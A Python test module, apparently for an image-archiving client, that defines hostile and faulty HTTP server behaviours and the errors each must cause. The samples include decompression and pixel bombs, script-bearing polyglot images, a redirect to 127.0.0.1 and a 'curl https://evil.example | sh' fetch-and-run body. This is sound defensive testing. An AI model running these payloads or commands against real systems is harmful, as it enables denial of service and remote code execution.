"""Defines faulty and hostile behaviours of image servers: a name, the behaviour, and the required result.

Every behaviour is a function that receives a connection from which the request has already been read.
"""

import gzip
import itertools
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from catchlight.errors import (
    ImageError,
    ImageGoneError,
    ImageRejectedError,
    ImageTruncatedError,
    ImageUnavailableError,
    NotAnImageError,
    TooManyPixelsError,
    UnknownFormatError,
)
from catchlight.images.stream import MAX_IMAGE_BYTES
from tests.hostile.internet import Behaviour
from tests.image_server import picture

PNG, JPEG, GIF, WEBP, AVIF = (picture(name, (80, 60)) for name in ("PNG", "JPEG", "GIF", "WEBP", "AVIF"))
COMPLETE = {"PNG": PNG, "JPEG": JPEG, "GIF": GIF, "WebP": WEBP, "AVIF": AVIF}
TRAILING = {
    "HTML": b"<html><script>alert(1)</script></html>",
    "a ZIP": b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18),
    "a PDF": b"%PDF-1.7\n",
    "a second image": PNG,
    "a line": b"\r\n",
    "a zero": b"\x00",
}
# All bodies that may be archived.
IMAGES = COMPLETE | {
    "GIF and JavaScript": b"GIF89a/*" + GIF[8:] + b"*/=alert(1);",
    **{f"{name} and {other}": image + more for name, image in COMPLETE.items() for other, more in TRAILING.items()},
}

REJECTED, UNAVAILABLE = ImageRejectedError, ImageUnavailableError
TIMEOUT = (UNAVAILABLE, "did not arrive within")
NOT_HTTP = (UNAVAILABLE, "cut off, or is not HTTP")
INCOMPLETE_BODY = (ImageTruncatedError, "cut off, or is not HTTP")
CONNECTION_LOST = (UNAVAILABLE, "connection failed: (it was interrupted|the response is cut off)")
INCOMPLETE_IMAGE = (ImageTruncatedError, "is not whole")
NOT_AN_IMAGE = (NotAnImageError, "not an image")
UNKNOWN_FORMAT = (UnknownFormatError, "not an image that is archived")
COMPRESSED = (UNAVAILABLE, "compressed")
GONE = (ImageGoneError, "expired or was withdrawn")
REDIRECTED = (REJECTED, "redirects")
SWITCHED = (UNAVAILABLE, "connection failed|answers 101")
TOO_LARGE = (REJECTED, "larger than")
TOO_MANY_PIXELS = (TooManyPixelsError, "pixels")

# A number of repetitions that no client reads completely; the data is not allocated.
ENDLESS = 10**9
BLOCK = 64 * 1024


@dataclass(frozen=True, slots=True)
class Server:
    """A server's behaviour, and the error that it must cause; `error` is None if the download must succeed."""

    act: Behaviour
    error: type[ImageError] | None = None
    message: str = ""
    is_slow: bool = False  # only the deadline ends the download


# ------------------------------------------------------------------------------------------------ behaviours


def send(*parts: bytes) -> Behaviour:
    """Sends these bytes and closes the connection normally."""

    def act(connection: socket.socket) -> None:
        connection.sendall(b"".join(parts))

    return act


def repeat(begin: bytes, data: bytes, seconds: float = 0) -> Behaviour:
    """Sends the beginning, then the same bytes forever, as fast as the client reads or with a pause after each."""
    block = data if seconds else data * max(1, BLOCK // len(data))

    def act(connection: socket.socket) -> None:
        connection.sendall(begin)
        for _ in range(ENDLESS):
            connection.sendall(block)
            time.sleep(seconds)

    return act


def drip(data: bytes, begin: bytes = b"") -> Behaviour:
    """Sends one byte at a time: each read succeeds in time, the whole body never arrives."""

    def act(connection: socket.socket) -> None:
        connection.sendall(begin)
        for byte in data:
            connection.sendall(bytes([byte]))
            time.sleep(0.05)
        time.sleep(10)

    return act


def stall(*parts: bytes) -> Behaviour:
    """Sends these bytes and then nothing, without closing the connection."""

    def act(connection: socket.socket) -> None:
        connection.sendall(b"".join(parts))
        connection.recv(1)  # until the client gives up

    return act


def reset(*parts: bytes) -> Behaviour:
    """Sends these bytes and then resets the connection."""

    def act(connection: socket.socket) -> None:
        connection.sendall(b"".join(parts))
        time.sleep(0.02)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    return act


# ------------------------------------------------------------------------------------------------ parts of responses


def head(*headers: str, status: str = "200 OK", version: str = "HTTP/1.1") -> bytes:
    """Returns the status line and headers."""
    lines = [f"{version} {status}", "Content-Type: image/png", *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1")


def sized(body: bytes, *headers: str, status: str = "200 OK", version: str = "HTTP/1.1") -> bytes:
    """Returns a response with its length."""
    return head(f"Content-Length: {len(body)}", *headers, status=status, version=version) + body


def unsized(body: bytes) -> bytes:
    """Returns a response that ends with the connection."""
    return head() + body


CHUNKED = head("Transfer-Encoding: chunked")


def chunks(*bodies: bytes) -> bytes:
    """Returns chunks without the last one."""
    return b"".join(b"%x\r\n%s\r\n" % (len(body), body) for body in bodies)


END_OF_CHUNKS = b"0\r\n\r\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """Returns a PNG chunk with its checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int, height: int) -> bytes:
    """Returns a small file that decompresses to a large one."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = png_chunk(b"IDAT", zlib.compress(bytes(1000)))
    return PNG[:8] + png_chunk(b"IHDR", header) + pixels + png_chunk(b"IEND", b"")


def without_avif_meta() -> bytes:
    """Returns an AVIF without its meta box; its boxes still add up."""
    return AVIF.replace(b"meta", b"free", 1)


BOMB = gzip.compress(bytes(20_000_000), 9)

# ------------------------------------------------------------------------------------------------ the table


def rows() -> Iterable[tuple[str, Server]]:
    """Yields all behaviours by name."""
    yield from _groups(
        well_behaved(),
        slow(),
        endless(),
        lengths(),
        chunked(),
        compressed(),
        statuses(),
        other_protocols(),
        resetting(),
    )
    yield from _groups(not_images(), other_formats(), damaged(), with_trailing_data(), oversized(), truncated())


def _groups(*groups: dict[str, Server]) -> Iterable[tuple[str, Server]]:
    return itertools.chain.from_iterable(group.items() for group in groups)


def well_behaved() -> dict[str, Server]:
    """Returns unusual but valid responses: rejecting these would lose images."""
    return {
        **{f"{name} with a length": Server(send(sized(image))) for name, image in COMPLETE.items()},
        "length given by the end of the connection": Server(send(unsized(PNG))),
        "one chunk": Server(send(CHUNKED, chunks(PNG), END_OF_CHUNKS)),
        "chunks of one byte": Server(send(CHUNKED, chunks(*map(bytes, zip(PNG))), END_OF_CHUNKS)),
        "chunk extensions and trailers": Server(
            send(CHUNKED, b"%X;name=value\r\n%s\r\n" % (len(PNG), PNG), b"0\r\nX-Trailer: 1\r\n\r\n")
        ),
        "same length twice": Server(send(sized(PNG, f"Content-Length: {len(PNG)}"))),
        "length with zeros": Server(send(head(f"Content-Length: 000{len(PNG)}"), PNG)),
        "HTTP/1.0": Server(send(sized(PNG, version="HTTP/1.0"))),
        "an unknown HTTP version": Server(send(sized(PNG, version="HTTP/3.0"))),
        "no reason phrase": Server(send(sized(PNG, status="200"))),
        "bare line feeds": Server(send(sized(PNG).replace(b"\r\n", b"\n", 3))),
        "continue first": Server(send(b"HTTP/1.1 100 Continue\r\n\r\n", sized(PNG))),
        "early hints first": Server(send(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", sized(PNG))),
        "many headers": Server(send(sized(PNG, *(f"X-{n}: {'x' * 500}" for n in range(100))))),
        "header that is not ASCII": Server(send(sized(PNG, "X-Name: caf\xe9"))),
        "another content type": Server(send(sized(PNG).replace(b"image/png", b"text/html"))),
        "identity": Server(send(sized(PNG, "Content-Encoding: identity"))),
        "parts with pauses": Server(lambda connection: _send_with_pauses(connection, sized(PNG))),
        "asks to upgrade": Server(send(sized(PNG, "Upgrade: h2c", "Connection: Upgrade"))),
    }


def _send_with_pauses(connection: socket.socket, data: bytes) -> None:
    for at in range(0, len(data), 100):
        connection.sendall(data[at : at + 100])
        time.sleep(0.01)


def slow() -> dict[str, Server]:
    """Returns behaviours that only the deadline ends."""
    acts = {
        "accepts and sends nothing": stall(),
        "half a status line": stall(b"HTTP/1.1 20"),
        "head without end": stall(head()[:-2]),
        "head, then nothing": stall(head("Content-Length: 100")),
        "all but the last byte": stall(sized(PNG)[:-1]),
        "all but the last chunk": stall(CHUNKED, chunks(PNG)),
        "all of a body without length, connection left open": stall(unsized(PNG)),
        "half a chunk's size": stall(CHUNKED, b"10"),
        "trailer without end": stall(CHUNKED, chunks(PNG), b"0\r\nX-Trailer: "),
        "head byte by byte": drip(head("X-Padding: " + "x" * 1000)),
        "body byte by byte": drip(PNG, head(f"Content-Length: {len(PNG)}")),
        "body without length byte by byte": drip(PNG, head()),
        "chunks byte by byte": drip(chunks(PNG), CHUNKED),
        "a header line at intervals": repeat(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n", 0.05),
        "informational responses at intervals": repeat(b"", b"HTTP/1.1 102 Processing\r\n\r\n", 0.05),
        "informational responses without end": repeat(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
        "chunks of one byte without end": repeat(CHUNKED, chunks(b"\x00"), 0.05),
    }
    return {name: Server(act, *TIMEOUT, is_slow=True) for name, act in acts.items()}


def endless() -> dict[str, Server]:
    """Returns behaviours that end when a limit is reached."""
    return {
        "status line without end": Server(repeat(b"HTTP/1.1 200 ", b"O"), *NOT_HTTP),
        "header line without end": Server(repeat(b"HTTP/1.1 200 OK\r\nX-Padding: ", b"x"), *NOT_HTTP),
        "header lines without end": Server(repeat(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n"), *NOT_HTTP),
        "header of a megabyte": Server(send(sized(PNG, "X-Padding: " + "x" * 1_000_000)), *NOT_HTTP),
        "empty lines without end": Server(repeat(b"", b"\r\n"), *NOT_HTTP),
        "body without end": Server(repeat(head() + PNG, b"\x00"), *TOO_LARGE),
        "image after image without end": Server(repeat(head(), PNG), *TOO_LARGE),
        "chunks without end": Server(repeat(CHUNKED + chunks(PNG), chunks(bytes(BLOCK))), *TOO_LARGE),
        "one chunk without end": Server(repeat(CHUNKED + b"7fffffffffffffff\r\n" + PNG, bytes(BLOCK)), *TOO_LARGE),
        "chunks of zeros without end": Server(repeat(CHUNKED, chunks(bytes(BLOCK))), *NOT_AN_IMAGE),
        "chunk size without end": Server(repeat(CHUNKED, b"0"), *INCOMPLETE_BODY),
        "chunk extension without end": Server(repeat(CHUNKED + b"1;", b"x"), *INCOMPLETE_BODY),
        "trailers without end": Server(repeat(CHUNKED + chunks(PNG) + b"0\r\n", b"X-Trailer: 1\r\n"), *INCOMPLETE_BODY),
    }


def lengths() -> dict[str, Server]:
    """Returns responses with a wrong length."""

    def declared(length: str) -> bytes:
        return head(f"Content-Length: {length}") + PNG

    return {
        "declared longer than the body": Server(send(declared(str(len(PNG) + 1))), *INCOMPLETE_BODY),
        "declared much longer than the body": Server(send(declared(str(MAX_IMAGE_BYTES))), *INCOMPLETE_BODY),
        "declared shorter than the body": Server(send(declared(str(len(PNG) - 40))), *INCOMPLETE_IMAGE),
        "a single byte": Server(send(declared("1")), UNAVAILABLE, "only 1 bytes"),
        "nothing": Server(send(declared("0")), UNAVAILABLE, "only 0 bytes"),
        "too large by one": Server(send(declared(str(MAX_IMAGE_BYTES + 1))), *TOO_LARGE),
        "an exabyte": Server(send(declared("1" + "0" * 18)), *TOO_LARGE),
        "five thousand digits": Server(send(declared("1" * 5000)), *NOT_HTTP),
        "two lengths": Server(send(sized(PNG, "Content-Length: 5")), *NOT_HTTP),
        "two lengths in one": Server(send(declared(f"{len(PNG)}, 5")), *NOT_HTTP),
        "negative": Server(send(declared("-1")), *NOT_HTTP),
        "with a sign": Server(send(declared(f"+{len(PNG)}")), *NOT_HTTP),
        "hexadecimal": Server(send(declared(hex(len(PNG)))), *NOT_HTTP),
        "a fraction": Server(send(declared(f"{len(PNG)}.0")), *NOT_HTTP),
        "empty": Server(send(declared("")), *NOT_HTTP),
        "digits of another script": Server(send(declared("\xb2")), *NOT_HTTP),
        "length and chunks": Server(
            send(head(f"Content-Length: {len(PNG)}", "Transfer-Encoding: chunked"), chunks(PNG), END_OF_CHUNKS),
            UNAVAILABLE,
            "both Transfer-Encoding and Content-Length",
        ),
    }


def chunked() -> dict[str, Server]:
    """Returns responses with invalid chunks."""
    return {
        "no last chunk": Server(send(CHUNKED, chunks(PNG)), *INCOMPLETE_BODY),
        "no chunk at all": Server(send(CHUNKED), *INCOMPLETE_BODY),
        "only the last chunk": Server(send(CHUNKED, END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"),
        "chunk cut off": Server(send(CHUNKED, chunks(PNG)[:-10]), *INCOMPLETE_BODY),
        "no end of trailers": Server(send(CHUNKED, chunks(PNG), b"0\r\n"), *INCOMPLETE_BODY),
        "size is not a number": Server(send(CHUNKED, b"xyz\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
        "size is negative": Server(send(CHUNKED, b"-1\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
        "size with 0x": Server(send(CHUNKED, b"0x%x\r\n" % len(PNG), PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
        "size of 21 digits": Server(send(CHUNKED, b"f" * 21 + b"\r\n", PNG), *INCOMPLETE_BODY),
        "size larger than the data": Server(send(CHUNKED, b"ffff\r\n", PNG), *INCOMPLETE_BODY),
        "size smaller than the data": Server(send(CHUNKED, b"5\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
        "no chunks although declared": Server(send(CHUNKED, PNG), *INCOMPLETE_BODY),
        "encoded twice": Server(send(head("Transfer-Encoding: gzip, chunked"), chunks(PNG), END_OF_CHUNKS), *NOT_HTTP),
        "unknown transfer encoding": Server(send(head("Transfer-Encoding: xchunked"), chunks(PNG)), *NOT_HTTP),
        "last chunk first": Server(
            send(CHUNKED, END_OF_CHUNKS, chunks(PNG), END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"
        ),
    }


def compressed() -> dict[str, Server]:
    """Returns compressed bodies, most of which a client would decompress to 20 MB."""
    codings = ["gzip", "x-gzip", "GZIP", "deflate", "br", "zstd", "compress", "gzip, gzip", "identity, gzip"]
    bombs = {coding: send(sized(BOMB, f"Content-Encoding: {coding}")) for coding in codings}
    return {
        **{f"{coding} bomb": Server(bomb, *COMPRESSED) for coding, bomb in bombs.items()},
        "bomb of an unknown coding": Server(
            send(sized(BOMB, "Content-Encoding: unknown")), UNAVAILABLE, "unknown content encoding"
        ),
        "image in gzip": Server(send(sized(gzip.compress(PNG), "Content-Encoding: gzip")), *COMPRESSED),
        "identity and gzip in two headers": Server(
            send(sized(BOMB, "Content-Encoding: identity", "Content-Encoding: gzip")), *COMPRESSED
        ),
        "gzip bomb without Content-Encoding": Server(send(sized(BOMB)), *NOT_AN_IMAGE),
        "zip bomb": Server(send(sized(b"PK\x03\x04" + BOMB)), *NOT_AN_IMAGE),
    }


def statuses() -> dict[str, Server]:
    """Returns other statuses, each with a complete image; only 200 is accepted."""
    others = [201, 202, 203, 204, 205, 206, 226, 300, 304, 305, 306, 400, 401, 402, 405, 406, 409, 411, 418, 429, 451]
    others += [500, 502, 503, 504, 530, 999]

    def image(status: int, *headers: str) -> Behaviour:
        return send(sized(PNG, *headers, status=f"{status} X"))

    return {
        **{f"status {status}": Server(image(status), UNAVAILABLE, f"answers {status}$") for status in others},
        **{f"status {status}": Server(image(status), *GONE) for status in (403, 404, 410)},
        "part of an image": Server(image(206, "Content-Range: bytes 0-98/999"), UNAVAILABLE, "answers 206$"),
        "switches protocols": Server(image(101, "Upgrade: h2c", "Connection: Upgrade"), *SWITCHED),
        "redirect to itself": Server(image(302, "Location: /a.png"), *REDIRECTED),
        "redirect to an internal address": Server(image(307, "Location: http://127.0.0.1:9001/"), *REDIRECTED),
        "redirect to another image": Server(image(301, "Location: /b.png"), *REDIRECTED),
        "redirect to nowhere": Server(image(308), *REDIRECTED),
        "only informational": Server(send(b"HTTP/1.1 103 Early Hints\r\n\r\n"), *NOT_HTTP),
        "status of four digits": Server(send(sized(PNG, status="2000 OK")), *NOT_HTTP),
        "status of two digits": Server(send(sized(PNG, status="20 OK")), *NOT_HTTP),
        "status is not a number": Server(send(sized(PNG, status="OK")), *NOT_HTTP),
    }


def other_protocols() -> dict[str, Server]:
    """Returns responses of other protocols."""
    return {
        "nothing at all": Server(send(), *CONNECTION_LOST),
        "HTTP/0.9": Server(send(PNG), *NOT_HTTP),
        "HTTP/2": Server(send(b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" + bytes(18)), *NOT_HTTP),
        "HTTP/2 preface": Server(send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), *NOT_HTTP),
        "ICY": Server(send(sized(PNG, version="ICY")), *NOT_HTTP),
        "a request": Server(send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), *NOT_HTTP),
        "SSH": Server(send(b"SSH-2.0-OpenSSH_9.9\r\n"), *NOT_HTTP),
        "SMTP": Server(send(b"220 mail.example ESMTP\r\n"), *NOT_HTTP),
        "Redis": Server(send(b"-ERR unknown command 'GET'\r\n"), *NOT_HTTP),
        "TLS alert": Server(send(b"\x15\x03\x01\x00\x02\x02\x28"), *NOT_HTTP),
        "zeros": Server(send(bytes(1000)), *NOT_HTTP),
        "head cut off": Server(send(head()[:-4]), *NOT_HTTP),
        "header without colon": Server(send(head("X-Padding")), *NOT_HTTP),
        "header with a zero": Server(send(sized(PNG, "X-Padding: a\x00b")), *NOT_HTTP),
        "header name with a blank": Server(send(head(f"Content-Length : {len(PNG)}"), PNG), *NOT_HTTP),
        "header that is only a value": Server(send(head(": 1"), PNG), *NOT_HTTP),
    }


def resetting() -> dict[str, Server]:
    """Returns connections that do not end normally."""
    return {
        "reset at once": Server(reset(), *CONNECTION_LOST),
        "reset within the head": Server(reset(head()[:-4]), *CONNECTION_LOST),
        "reset after the head": Server(reset(head("Content-Length: 100")), *CONNECTION_LOST),
        "reset in the body": Server(reset(sized(PNG)[:-50]), *CONNECTION_LOST),
        "reset in a chunk": Server(reset(CHUNKED, chunks(PNG)[:-50]), *CONNECTION_LOST),
        "reset in a body without length": Server(reset(unsized(PNG[:-50])), *CONNECTION_LOST),
    }


def not_images() -> dict[str, Server]:
    """Returns responses with status 200 and content type image/png whose bodies are not images."""
    bodies = {
        "HTML": b"<!DOCTYPE html><html><body>Not found</body></html>",
        "HTML with a comment": b"<!-- \x89PNG --><html><script>alert(1)</script></html>",
        "HTML after white space": b"\r\n\r\n   <html></html>",
        "JSON": b'{"code": 404, "msg": "The file has expired"}',
        "XML": b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>',
        "text": b"The requested image does not exist any more.",
        "base64 of an image": b"iVBORw0KGgoAAAANSUhEUgAAAAgAAAAGCAIAAABxZ0isAAAA",
        "data URL": b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAG",
        "script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
        "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "PDF with an image": b"%PDF-1.7\n" + JPEG,
        "ZIP": b"PK\x03\x04" + bytes(60),
        "Windows program": b"MZ\x90\x00" + bytes(200),
        "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
        "Java class": b"\xca\xfe\xba\xbe" + bytes(200),
        "WAVE": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28),
        "zeros": bytes(5000),
        "image after a byte": b"\n" + PNG,
        "image after a byte order mark": b"\xef\xbb\xbf" + PNG,
        "image with converted line ends": PNG.replace(b"\r\n", b"\n"),
    }
    return {f"{name} as an image": Server(send(sized(body)), *NOT_AN_IMAGE) for name, body in bodies.items()}


def other_formats() -> dict[str, Server]:
    """Returns images and videos in formats that are not archived."""
    bodies = {
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "AVI": b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(28),
        "ICO": b"\x00\x00\x01\x00\x01\x00" + bytes(60),
        "BMP": b"BM" + bytes(60),
        "TIFF": b"II*\x00" + bytes(60),
        "PSD": b"8BPS\x00\x01" + bytes(60),
        "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(60),
        "JPEG XL": b"\x00\x00\x00\x0cJXL \r\n\x87\n" + bytes(60),
        "MP4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(60),
        "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(60),
    }
    return {f"{name} as an image": Server(send(sized(body)), *UNKNOWN_FORMAT) for name, body in bodies.items()}


def damaged() -> dict[str, Server]:
    """Returns files with an image's signature that are not valid images."""
    damaged_pixels = {
        "AVIF with a box of 16 EB": AVIF[:32] + b"\x00\x00\x00\x01meta" + b"\xff" * 8 + bytes(1000),
        "AVIF without meta and pixels": AVIF[:32],
        "PNG with a wrong checksum": PNG[:60] + bytes([PNG[60] ^ 1]) + PNG[61:],
    }
    bodies = {
        "PNG of HTML": PNG[:33] + b"<html><script>alert(1)</script></html>" * 10,
        "PNG without pixels": PNG[:33] + png_chunk(b"IEND", b""),
        "PNG with a chunk of 4 GB": PNG[:33] + b"\xff\xff\xff\xffIDAT" + bytes(1000),
        "JPEG signature and HTML": JPEG[:3] + b"<html><script>alert(1)</script></html>" * 10,
        "JPEG of HTML": JPEG[:4] + b"<html><script>alert(1)</script></html>" * 10,
        "JPEG without scans": JPEG[: JPEG.index(b"\xff\xda")] + b"\xff\xd9",
        "GIF of JavaScript": b"GIF89a=1;alert(document.domain)//" + bytes(100),
        "GIF without images": GIF[: 13 + (3 << (GIF[10] & 7) + 1)] + b";",
        "WebP of HTML": b"RIFF" + struct.pack("<I", 108) + b"WEBP" + b"<html>" * 16 + bytes(8),
        "WebP with a chunk of 4 GB": WEBP[:16] + b"\xff\xff\xff\xff" + WEBP[20:],
        "AVIF without meta": without_avif_meta(),
        "AVIF of HTML": AVIF[:32] + b"<html><script>alert(1)</script></html>" * 10,
    }
    return {name: Server(send(sized(body)), *NOT_AN_IMAGE) for name, body in bodies.items()} | {
        name: Server(send(sized(body)), *INCOMPLETE_IMAGE) for name, body in damaged_pixels.items()
    }


def with_trailing_data() -> dict[str, Server]:
    """Returns complete images with trailing data, which are archived unchanged."""
    return {name: Server(send(sized(image))) for name, image in IMAGES.items() if name not in COMPLETE}


def oversized() -> dict[str, Server]:
    """Returns small files that decompress to large pictures, or declare a large size."""
    sides = struct.pack(">HH", 65000, 65000)
    frame = JPEG.index(b"\xff\xc0") + 5
    bodies = {
        "PNG of 10 gigapixels": huge_png(100_000, 100_000),
        "PNG of 4 exapixels": huge_png(2**31 - 1, 2**31 - 1),
        "PNG just too large": huge_png(8000, 8001),
        "JPEG of 4 gigapixels": JPEG[:frame] + sides + JPEG[frame + 4 :],
        "GIF of 4 gigapixels": GIF[:6] + b"\xff\xff\xff\xff" + GIF[10:],
    }
    return {name: Server(send(sized(body)), *TOO_MANY_PIXELS) for name, body in bodies.items()} | {
        "PNG without width": Server(send(sized(huge_png(0, 10))), *NOT_AN_IMAGE),
    }


def truncated() -> dict[str, Server]:
    """Returns truncated images, with and without a length that shows it."""
    cuts: dict[str, Callable[[bytes], bytes]] = {
        "at a quarter": lambda image: image[: len(image) // 4],
        "in the middle": lambda image: image[: len(image) // 2],
        "before the last byte": lambda image: image[:-1],
    }
    silent = {
        f"{name} cut off {where}": Server(send(unsized(cut(image))), *INCOMPLETE_IMAGE)
        for name, image in COMPLETE.items()
        for where, cut in cuts.items()
    }
    declared = {
        f"{name} cut off {where}, with a Content-Length": Server(
            send(sized(image)[: len(cut(image)) - len(image)]), *INCOMPLETE_BODY
        )
        for name, image in COMPLETE.items()
        for where, cut in cuts.items()
    }
    first_bytes = {
        f"PNG cut off after {length} bytes": Server(send(unsized(PNG[:length])), UNAVAILABLE, "only")
        for length in (0, 1, 7, 11)
    }
    return silent | declared | first_bytes


BEHAVIOURS = dict(rows())
